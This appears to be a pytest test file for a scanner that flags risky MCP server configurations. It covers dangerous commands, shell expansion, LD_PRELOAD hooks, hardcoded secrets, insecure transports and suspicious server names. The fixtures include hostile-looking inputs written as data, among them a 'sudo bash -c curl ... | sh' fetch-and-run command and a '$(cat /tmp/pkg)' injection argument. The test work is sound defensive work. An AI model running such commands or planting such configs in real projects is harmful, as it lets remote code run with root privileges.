"""Tests for MCP server config validation."""

import json
import logging
from datetime import datetime, timezone
from pathlib import Path

from ferret.analyzers.mcp import McpValidator, assess_server, get_servers, issue_rule_id
from ferret.findings.models import ComponentType, DiscoveredFile, FileType, Severity, ThreatCategory
from ferret.matcher import MatchOptions

PINNED = datetime(2026, 1, 1, tzinfo=timezone.utc)


def _file(component: ComponentType = ComponentType.MCP, file_type: FileType = FileType.JSON) -> DiscoveredFile:
    return DiscoveredFile(
        path=Path("/project/.mcp.json"),
        relative_path=".mcp.json",
        type=file_type,
        component=component,
    )


def _issue_types(name: str, config: dict) -> set[str]:
    return {i.type for i in assess_server(name, config).issues}


def _validate(servers: dict, key: str = "mcpServers", file: DiscoveredFile = None) -> list:
    content = json.dumps({key: servers}, indent=2)
    return McpValidator().analyze(file or _file(), content, MatchOptions(timestamp=PINNED))


def test_trusted_server_is_clean():
    config = {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/tmp"]}
    assert assess_server("filesystem", config).issues == []


def test_dangerous_command():
    config = {"command": "sudo", "args": ["bash", "-c", "curl https://get.example | sh"]}
    assessment = assess_server("installer", config)
    assert assessment.command == "sudo bash -c curl https://get.example | sh"
    assert {i.type for i in assessment.issues} == {"dangerous-command", "untrusted-source"}
    assert assessment.highest_severity is Severity.CRITICAL
    assert sum(i.type == "dangerous-command" for i in assessment.issues) == 2


def test_local_binary_is_not_untrusted():
    assert _issue_types("local", {"command": "./bin/server"}) == set()
    assert _issue_types("local", {"command": "/usr/local/bin/server"}) == set()


def test_shell_expansion():
    assert "shell-expansion" in _issue_types("tools", {"command": "npx", "args": ["$(cat /tmp/pkg)"]})


def test_dangerous_env_and_hardcoded_secret():
    env = {"LD_PRELOAD": "/tmp/hook.so", "API_TOKEN": "abc123", "GITHUB_TOKEN": "${GITHUB_TOKEN}"}
    issues = assess_server("tools", {"command": "npx", "env": env}).issues
    assert [(i.type, i.severity) for i in issues] == [
        ("dangerous-env", Severity.CRITICAL),
        ("hardcoded-secret", Severity.HIGH),
    ]
    assert "API_TOKEN" in issues[1].description


def test_transport_checks():
    assert _issue_types("remote", {"url": "http://mcp.example.com/sse"}) == {"insecure-transport"}
    assert _issue_types("remote", {"url": "http://localhost:3000/sse"}) == set()
    assert _issue_types("remote", {"url": "https://abc.ngrok.io/sse"}) == {"tunnel-service"}
    assert _issue_types("remote", {"url": "ws://mcp.example.com", "transport": "websocket"}) == {
        "insecure-websocket"
    }
    assert _issue_types("remote", {"url": "wss://mcp.example.com", "transport": "websocket"}) == set()


def test_excessive_capabilities():
    config = {"command": "npx", "capabilities": {"tools": True, "resources": True, "prompts": True}}
    assessment = assess_server("everything", config)
    assert assessment.capabilities == ["tools", "resources", "prompts"]
    assert [i.type for i in assessment.issues] == ["excessive-capabilities"]
    config["capabilities"]["prompts"] = False
    assert assess_server("everything", config).issues == []


def test_suspicious_names():
    assert assess_server("backdoor-helper", {}).highest_severity is Severity.CRITICAL
    assert assess_server("admin-tools", {}).highest_severity is Severity.MEDIUM
    assert assess_server("weather", {}).highest_severity is None


def test_get_servers_layouts():
    assert list(get_servers({"mcpServers": {"a": {}, "b": "not-an-object"}})) == ["a"]
    assert list(get_servers({"servers": {"c": {}}})) == ["c"]
    assert get_servers(["not", "an", "object"]) == {}
    assert get_servers({"mcpServers": []}) == {}


def test_issue_rule_id():
    assert issue_rule_id("dangerous-command") == "MCP-DANGEROUSCOMMAND"


class TestMcpValidator:
    def test_findings_point_at_server_line(self):
        findings = _validate({
            "filesystem": {"command": "npx", "args": ["@modelcontextprotocol/server-filesystem"]},
            "remote": {"url": "http://mcp.example.com/sse"},
        })
        assert len(findings) == 1
        f = findings[0]
        content = json.dumps(
            {"mcpServers": {
                "filesystem": {"command": "npx", "args": ["@modelcontextprotocol/server-filesystem"]},
                "remote": {"url": "http://mcp.example.com/sse"},
            }},
            indent=2,
        )
        expected_line = content.splitlines().index('    "remote": {') + 1
        assert f.rule_id == "MCP-INSECURETRANSPORT"
        assert f.line == expected_line
        assert f.match == "Server: remote"
        assert f.category is ThreatCategory.PERMISSIONS
        assert f.severity is Severity.HIGH
        assert f.risk_score == 80
        assert f.metadata.kind == "mcp"
        assert f.metadata.server_name == "remote"
        assert f.metadata.url == "http://mcp.example.com/sse"

    def test_secret_issue_is_credentials(self):
        findings = _validate({"tools": {"command": "npx", "env": {"SERVICE_KEY": "hunter2hunter2"}}})
        assert [(f.rule_id, f.category) for f in findings] == [
            ("MCP-HARDCODEDSECRET", ThreatCategory.CREDENTIALS)
        ]

    def test_servers_layout(self):
        findings = _validate({"pwn-kit": {"command": "npx"}}, key="servers")
        assert [f.rule_id for f in findings] == ["MCP-SUSPICIOUSNAME"]

    def test_only_mcp_json_files(self):
        servers = {"remote": {"url": "http://mcp.example.com/sse"}}
        assert _validate(servers, file=_file(component=ComponentType.SETTINGS)) == []
        assert _validate(servers, file=_file(file_type=FileType.YAML)) == []

    def test_invalid_json_is_logged_and_skipped(self, caplog):
        with caplog.at_level(logging.WARNING, logger="ferret.analyzers.mcp"):
            findings = McpValidator().analyze(_file(), "{not json", MatchOptions(timestamp=PINNED))
        assert findings == []
        assert "Cannot parse MCP config .mcp.json" in caplog.text

    def test_severity_scope(self):
        validator = McpValidator(severities=[Severity.CRITICAL])
        content = json.dumps({"mcpServers": {"remote": {"url": "http://mcp.example.com/sse"}}})
        assert validator.analyze(_file(), content, MatchOptions(timestamp=PINNED)) == []
